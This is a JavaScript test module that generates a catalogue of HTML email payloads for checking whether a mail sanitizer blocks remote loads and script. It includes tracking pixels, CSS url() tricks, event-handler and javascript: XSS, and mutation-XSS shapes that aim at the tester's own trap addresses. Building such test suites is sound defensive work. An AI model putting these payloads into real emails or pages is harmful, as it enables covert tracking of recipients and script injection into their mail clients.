//! Ways in which a mail could tell that it is read, or run something. Our own collection: one idea each.
//!
//! Each vector gets two addresses that lead into the trap (`u`, plain and `s`, with TLS) and a host name that
//! nobody else asks for (`h`). Scripts call `top.ran(…)`, and without that ask the trap.

/** @param {{ u: string, s: string, h: string }} to @returns {Record<string, string>} by name */
export function vectors({ u, s, h }) {
  const run = `try{top.ran=1}catch{};new Image().src='${u}/ran'`;
  const svg = (inner) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>`;
  const data = (type, text) => `data:${type};base64,${Buffer.from(text).toString("base64")}`;
  return {
    // Images and what is like them.
    "img src": `<img src="${u}/img">`,
    "img src without quotes": `<img src=${u}/unquoted>`,
    "img src without a scheme": `<img src="${u.replace("http:", "")}/scheme-relative">`,
    "img src with a line break inside": `<img src="ht\ntp://${u.slice(7)}/broken">`,
    "img src with backslashes": `<img src="http:\\\\${u.slice(7)}\\backslash">`,
    "img src as entities": `<img src="${entities(`${u}/entities`)}">`,
    "img srcset": `<img srcset="${u}/srcset1 1x, ${s}/srcset2 2x">`,
    "img lowsrc and dynsrc": `<img lowsrc="${u}/lowsrc" dynsrc="${u}/dynsrc">`,
    "img loaded late": `<img loading="lazy" src="${u}/lazy">`,
    "image, which parsers read as img": `<image src="${u}/image">`,
    "picture source": `<picture><source srcset="${u}/picture"><img></picture>`,
    "input of type image": `<input type="image" src="${u}/input">`,
    "map area with ping": `<img usemap="#m" width=9 height=9><map name=m><area ping="${u}/ping" href="${u}/area" shape=default></map>`,
    "body background": `<body background="${u}/body">`,
    "table background": `<table background="${u}/table"><tr><td background="${u}/cell">x</table>`,
    favicon: `<link rel="icon" href="${u}/icon"><link rel="shortcut icon" href="${u}/shortcut"><link rel="apple-touch-icon" href="${u}/touch">`,
    // Media and plug-ins.
    "video with poster": `<video src="${u}/video" poster="${u}/poster" autoplay></video>`,
    audio: `<audio src="${u}/audio" autoplay preload="auto"></audio>`,
    "source and track": `<video autoplay><source src="${u}/source"><track default kind="subtitles" src="${u}/track"></video>`,
    object: `<object data="${u}/object" type="image/gif"></object>`,
    "object with param": `<object><param name="movie" value="${u}/param"><param name="src" value="${u}/param2"></object>`,
    embed: `<embed src="${u}/embed" type="image/gif">`,
    applet: `<applet code="A" codebase="${u}/applet" archive="${u}/archive"></applet>`,
    bgsound: `<bgsound src="${u}/bgsound">`,
    // Frames and leaving.
    iframe: `<iframe src="${u}/iframe"></iframe>`,
    "iframe with srcdoc": `<iframe srcdoc="&lt;img src='${u}/srcdoc'&gt;&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
    "iframe of data": `<iframe src="${data("text/html", `<img src="${u}/data"><script>${run}</script>`)}"></iframe>`,
    frameset: `<frameset><frame src="${u}/frame"></frameset>`,
    "portal and fencedframe": `<portal src="${u}/portal"></portal><fencedframe src="${u}/fenced"></fencedframe>`,
    "meta refresh": `<meta http-equiv="refresh" content="0; url=${u}/refresh">`,
    "meta refresh spelled oddly": `<META HTTP-EQUIV='ReFresh' CONTENT='0;URL="${s}/refresh2"'>`,
    base: `<base href="${u}/base/"><img src="relative"><a href="x">x</a>`,
    "form that sends itself": `<form id=f action="${u}/form"><input name=a autofocus onfocus="f.submit()"><button formaction="${u}/button">go</button></form>`,
    isindex: `<isindex action="${u}/isindex" prompt="x">`,
    "html manifest": `<html manifest="${u}/manifest">`,
    // Links that ask before anyone clicks.
    "dns-prefetch": `<link rel="dns-prefetch" href="//dns.${h}">`,
    "dns prefetch by a link alone": `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://anchor.${h}/">a</a>`,
    preconnect: `<link rel="preconnect" href="${u}"><link rel="preconnect" href="//pre.${h}" crossorigin>`,
    prefetch: `<link rel="prefetch" href="${u}/prefetch">`,
    preload: `<link rel="preload" as="image" href="${u}/preload">`,
    "preload by imagesrcset": `<link rel="preload" as="image" imagesrcset="${u}/imagesrcset 1x">`,
    modulepreload: `<link rel="modulepreload" href="${u}/module">`,
    prerender: `<link rel="prerender" href="${u}/prerender"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${s}/rules"]}]}</script>`,
    manifest: `<link rel="manifest" href="${u}/manifest">`,
    "alternate, import, pingback and others": [
      "import",
      "pingback",
      "search",
      "next",
      "subresource",
      "amphtml",
      "dictionary",
    ]
      .map((rel) => `<link rel="${rel}" href="${u}/${rel}">`)
      .join(""),
    // Style.
    "style sheet": `<link rel="stylesheet" href="${u}/sheet"><link rel="alternate stylesheet" href="${u}/alternate">`,
    "style sheet in the body": `<p><link rel=stylesheet href=${u}/in-body>`,
    "xml-stylesheet": `<?xml-stylesheet href="${u}/xml" type="text/css"?>`,
    "@import": `<style>@import "${u}/import"; @import url(${u}/import-url); @import '${u}/layer' layer(x) supports(display:block);</style>`,
    "@import with escapes": `<style>@\\69mport "${u}/escaped"; @im\\port url("${u}/escaped2");</style>`,
    "@font-face": `<style>@font-face{font-family:leak;src:url(${u}/font)}*{font-family:leak}</style><p>font`,
    "@namespace, @charset and friends": `<style>@charset "utf-8";@namespace url(${u}/ns);@counter-style c{system:cyclic;symbols:url(${u}/counter)}li{list-style:c}</style><ul><li>x</ul>`,
    "url() in every property": `<style>p{background:url(${u}/bg);border-image:url(${u}/border) 1;list-style-image:url(${u}/list);cursor:url(${u}/cursor),auto;content:url(${u}/content);mask:url(${u}/mask);filter:url(${u}/filter#f);clip-path:url(${u}/clip#c);shape-outside:url(${u}/shape);offset-path:url(${u}/offset#o)}p::before{content:url(${u}/before)}</style><p>all`,
    "image-set, cross-fade, image, src": `<div style="background:image-set('${u}/set' 1x);width:9px;height:9px">x</div><div style="background:-webkit-image-set(url(${u}/wset) 1x)">x</div><div style="background:-webkit-cross-fade(url(${u}/fade),url(${u}/fade2),50%)">x</div><div style="background:image('${u}/cssimage')">x</div><div style="background:src('${u}/csssrc')">x</div>`,
    "style attribute with escapes": `<p style="background:\\75\\72\\6c(${u}/hex);background-image:u\\rl('${u}/rl')">x<p style="background:url(/**/'${u}/comment')">x`,
    "style attribute, capital and broken": `<p style="BACKGROUND:URL( ${u}/capital )">x<p style="background:url(${u}/unclosed">x`,
    "custom property": `<p style="--x:url(${u}/custom);background:var(--x)">x<style>:root{--y:url(${u}/custom2)}p{background-image:var(--y,url(${u}/fallback))}</style>`,
    "nested and conditional rules": `<style>@media all{p{background:url(${u}/media)}}@supports (display:block){p{border-image:url(${u}/supports) 1}}p{&{mask-image:url(${u}/nested)}}@layer a{p{cursor:url(${u}/layered),auto}}@container (width>0){p{list-style:url(${u}/container)}}@keyframes k{from{background:url(${u}/key)}}p{animation:k 1s}</style><p>x`,
    "selectors that tell of what they match": `<style>a[href^="h"]{background:url(${u}/selector)}a:visited{background:url(${u}/visited)}::selection{background:url(${u}/selection)}</style><a href="https://example.org">x</a>`,
    "style inside svg": svg(
      `<style>@import "${u}/svgstyle";rect{fill:url(${u}/fill#x)}</style><rect width=9 height=9 />`,
    ),
    "expression and binding of old": `<p style="width:expression(${run});behavior:url(${u}/htc);-moz-binding:url(${u}/xbl#x)">x`,
    // SVG and MathML.
    "svg image": svg(`<image href="${u}/svgimage" xlink:href="${u}/xlink" width="9" height="9"/>`),
    "svg use": svg(
      `<use href="${u}/use#x"/><use xlink:href="${data("image/svg+xml", svg(`<image id="x" href="${u}/used"/>`))}#x"/>`,
    ),
    "svg feImage, filter and paint": svg(
      `<filter id="f"><feImage href="${u}/fe"/></filter><rect filter="url(#f)" fill="url(${u}/paint#p)" mask="url(${u}/svgmask#m)" cursor="url(${u}/svgcursor)" width="9" height="9"/>`,
    ),
    "svg script": svg(`<script>${run}</script><script href="${u}/svgscript"/>`),
    "svg animation of an address": svg(
      `<a><animate attributeName="href" values="javascript:${run}" begin="0s"/><text y="9">x</text></a><image><set attributeName="href" to="${u}/set"/></image>`,
    ),
    "svg foreignObject": svg(
      `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${u}/foreign"/></foreignObject>`,
    ),
    "svg as an image's data": `<img src="${data("image/svg+xml", svg(`<image href="${u}/nestedsvg"/><script>${run}</script>`))}">`,
    math: `<math><mtext><img src="${u}/math"></mtext><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math><math href="${u}/mathhref">x</math>`,
    // Script.
    script: `<script>${run}</script>`,
    "script from elsewhere": `<script src="${u}/script"></script><script type="module" src="${s}/modulescript"></script>`,
    "script type importmap": `<script type="importmap">{"imports":{"a":"${u}/map"}}</script><script type=module>import "a"</script>`,
    "event handlers": `<img src=x onerror="${run}"><body onload="${run}" onpageshow="${run}"><details open ontoggle="${run}">x</details><p onanimationstart="${run}" style="animation:k 1s">x<style>@keyframes k{}</style>`,
    "event handlers without a space": `<img/src=x/onerror="${run}"><svg/onload="${run}">`,
    "javascript addresses": `<iframe src="javascript:${run}"></iframe><a href="jav&#x09;ascript:${run}" autofocus>x</a><object data="javascript:${run}"></object><embed src="javascript:${run}">`,
    "noscript that turns": `<noscript><p title="</noscript><img src=${u}/noscript onerror='${run}'>"></noscript>`,
    "template and its shadow": `<div><template shadowrootmode="open"><img src="${u}/shadow"><style>@import "${u}/shadowcss"</style></template></div><template><img src="${u}/template"></template>`,
    // Shapes that change meaning when they are parsed twice.
    "mutation: style in svg in math": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${u}/mut1 onerror=${run}&gt;">`,
    "mutation: form in form": `<form><math><mtext></form><form><mglyph><style></math><img src="${u}/mut2" onerror="${run}">`,
    "mutation: title in svg": svg(`<p><title><style><a id="</style><img src=${u}/mut3 onerror='${run}'>">`),
    "mutation: comment in a comment": `<!--><img src="${u}/mut4"><!-- --!><img src="${u}/mut5">-->`,
    "mutation: textarea, xmp and plaintext": `<textarea><p title="</textarea><img src=${u}/mut6>"></textarea><xmp><p title="</xmp><img src=${u}/mut7>"></xmp><noembed><img alt="</noembed><img src=${u}/mut8>"></noembed>`,
    "mutation: CDATA":
      svg(`<![CDATA[><img src="${u}/cdata" onerror="${run}">]]>`) +
      `<math><annotation-xml encoding="text/html"><style><img src="${u}/annotation"></style></annotation-xml></math>`,
    "mutation: deep nesting": `${"<div>".repeat(600)}<table><caption><svg><title><table><caption></caption></table><style><a title="</style><img src=${u}/deep>">`,
    "end of our own frame's document": `</body></html><meta http-equiv="content-security-policy" content="img-src *"><img src="${u}/after">"'></iframe><img src="${u}/out">`,
    "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri ${u}/report"><img src="${u}/reported">`,
    "origin trials, reporting and other metas": `<meta http-equiv="Report-To" content='{"endpoints":[{"url":"${u}/reports"}]}'><meta property="og:image" content="${u}/og"><meta name="msapplication-TileImage" content="${u}/tile">`,
    "amp, vml and word": `<amp-img src="${u}/amp" width=1 height=1></amp-img><v:imagedata src="${u}/vml"></v:imagedata><!--[if gte mso 9]><img src="${u}/mso"><![endif]--><![if !mso]><img src="${u}/notmso"><![endif]>`,
    "custom elements and slots": `<x-y is="img" src="${u}/custom-element"></x-y><img is="x-y" src="${u}/is"><model src="${u}/model"></model>`,
    "longdesc, cite, profile, usemap": `<img longdesc="${u}/longdesc"><blockquote cite="${u}/cite">x</blockquote><head profile="${u}/profile"></head><menuitem icon="${u}/menu"></menuitem>`,
  };
}

function entities(text) {
  return [...text].map((char) => `&#${char.codePointAt(0)};`).join("");
}
